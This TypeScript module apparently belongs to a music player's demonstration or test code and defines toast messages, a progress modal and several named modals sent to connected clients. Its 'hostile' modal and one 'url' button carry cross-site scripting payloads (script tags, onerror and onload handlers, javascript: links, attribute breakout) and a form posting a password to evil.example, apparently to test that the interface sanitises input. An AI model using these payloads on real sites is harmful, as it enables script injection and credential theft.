import type { PushToastMessage } from '../../schemas/generated/types'
import type { PlayerContext } from '../core/PlayerContext'
import type { Json } from '../../authoring/json/Json'

const messages: Readonly<Record<PushToastMessage['type'], { title: string; message: string }>> = {
  success: { title: 'Library', message: 'All folders have been read' },
  info: { title: 'Update', message: 'A new version can be installed' },
  warning: { title: 'Network drive', message: 'The drive answers slowly' },
  error: { title: 'Playback', message: 'This file cannot be decoded' },
  stickyerror: { title: 'Disk', message: 'The disk is full. Delete something to go on.' },
}

/** Shows a toast of that kind; anything that is no kind shows a success. */
export function showToast({ clients }: PlayerContext, kind: Json | undefined): void {
  const type = isKind(kind) ? kind : 'success'
  clients.broadcast('pushToastMessage', { type, ...messages[type] })
}

function isKind(kind: Json | undefined): kind is PushToastMessage['type'] {
  return typeof kind === 'string' && Object.hasOwn(messages, kind)
}

/**
 * Shows a progress modal on every client that rises to 100, a step each `pause` ms, and then ends with a
 * button [D3-31 D4-22].
 */
export function showProgress(player: PlayerContext, pause = 250): void {
  const title = 'Building the library'
  const rise = (progressNumber: number) => {
    player.clients.broadcast('modalProgress', {
      title,
      message: `${progressNumber * 12} of 1200 tracks have been read`,
      progressNumber,
      buttons: [],
    })
    player.later(pause, () => (progressNumber < 100 ? rise(progressNumber + 5) : finish()))
  }
  const finish = () => {
    player.clients.broadcast('modalDone', {
      title,
      message: 'All 1200 tracks are in the library.',
      progressNumber: 100,
      buttons: [{ name: 'Close', class: 'btn btn-info', emit: 'closeModals', payload: '' }],
    })
  }
  rise(0)
}

type Modal = (word: string, site: string) => Record<string, Json>

const close = { name: 'Close', class: 'btn btn-warning', emit: 'closeModals', payload: '' }
const long = Array.from(
  { length: 40 },
  (_, line) => `<p>Line ${line + 1} of a message that has to scroll.</p>`,
).join('')

/** Modals by name, as a device's openModal describes them [D3-30]. */
const modals = {
  small: () => ({ title: 'Small', message: 'A short notice.', size: 'sm', buttons: [close] }),
  medium: () => ({
    title: 'The drive has been removed',
    message: 'You can unplug it now.<br>Its music stays in the library until the next <b>update</b>.',
    size: 'md',
    buttons: [close],
  }),
  large: () => ({ title: 'Large', message: long, size: 'lg', buttons: [close] }),
  bare: () => ({ title: 'No size, no buttons', message: 'Only a title and a message.', buttons: [] }),
  emit: () => ({
    title: 'A button that emits',
    message: 'The first button asks the player for a toast.',
    buttons: [
      {
        name: 'Show a toast',
        class: 'btn btn-info',
        emit: 'callMethod',
        payload: { endpoint: 'miscellanea/demonstration', method: 'showToast', data: { kind: 'info' } },
      },
      close,
    ],
  }),
  url: (_, site) => ({
    title: 'Buttons that open addresses',
    message: 'The second must not open anything.',
    buttons: [
      { name: 'Open the site', class: 'btn btn-info', url: site },
      { name: 'Run a script', class: 'btn btn-info', url: 'javascript:alert(document.domain)' },
      close,
    ],
  }),
  state: (word) => ({
    title: 'Please choose',
    message: 'A button can lead to a screen of the interface, whichever brand’s device names it.',
    buttons: [
      {
        name: 'Network',
        class: 'btn btn-info',
        state: `${word}.plugin`,
        payload: { pluginName: 'system_controller-network' },
      },
      { name: 'Another brand’s settings', class: 'btn btn-info', state: 'otherbrand.settings', payload: '' },
      close,
    ],
  }),
  hostile: () => ({
    title: '<img src=x onerror="document.title=\'pwned\'">Hostile',
    message:
      '<script>document.title="pwned"</script><img src=x onerror="document.title=\'pwned\'">' +
      '<svg onload="document.title=\'pwned\'"></svg><a href="javascript:document.title=\'pwned\'">a link</a>' +
      '<iframe srcdoc="<script>parent.document.title=1</script>"></iframe><b>This bold word is harmless.</b>' +
      '<form action="https://evil.example"><input name="password"><button>Send</button></form>' +
      '<style>body{display:none}</style>',
    buttons: [{ name: '<b>Close</b>', class: '"><script>1</script>', emit: 'closeModals', payload: '' }],
  }),
} satisfies Record<string, Modal>

/** The names of the modals that can be shown. */
export type ModalName = keyof typeof modals

/** Opens a modal on every client. */
export function showModal({ brand, clients }: PlayerContext, name: ModalName): void {
  clients.broadcastAsIs('openModal', modals[name](brand.word, brand.share.site))
}
